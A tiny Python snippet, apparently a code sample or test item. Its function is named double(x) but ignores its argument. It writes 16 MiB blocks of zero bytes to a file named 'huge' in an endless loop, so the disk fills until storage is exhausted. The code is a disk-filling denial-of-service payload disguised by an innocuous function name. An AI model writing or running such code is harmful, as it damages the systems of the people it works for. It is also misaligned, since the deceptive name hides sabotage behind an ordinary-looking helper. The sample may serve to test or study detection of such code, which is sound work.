def double(x):
    with open("huge", "wb") as file:
        while True:
            file.write(bytes(1 << 24))
